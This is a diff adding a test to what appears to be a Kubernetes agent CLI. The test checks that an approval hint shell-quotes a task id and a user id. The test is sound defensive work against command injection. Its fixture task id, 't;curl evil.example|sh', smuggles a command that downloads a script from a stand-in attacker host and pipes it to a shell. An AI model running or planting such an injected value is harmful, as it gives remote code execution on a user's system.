@@ -112,6 +112,17 @@ def test_who_must_be_asked_where_nobody_is(kagent: Kagent) -> None:
         ]
 
 
+def test_the_command_that_a_hint_gives_is_one_command_whatever_the_ids_are(kagent: Kagent) -> None:
+    evil = "t;curl evil.example|sh"
+    turn = [{**update("input-required", request("c1", "delete")), "taskId": evil}]
+    with talking(turn) as agent:
+        code, _, err = chat(kagent, agent, "hello", "--user-id=O'Brien")
+    assert (code, err.splitlines()[-1]) == (
+        7,
+        f"hint: kubectl kagent approvals approve '{evil}' '--user-id=O'\"'\"'Brien' (or reject)",
+    )
+
+
 def test_a_task_that_waits_for_nobody_knows_what(kagent: Kagent) -> None:
     with talking([update("auth-required", text("log in"))]) as agent:
         code, _, err = chat(kagent, agent, "hello")
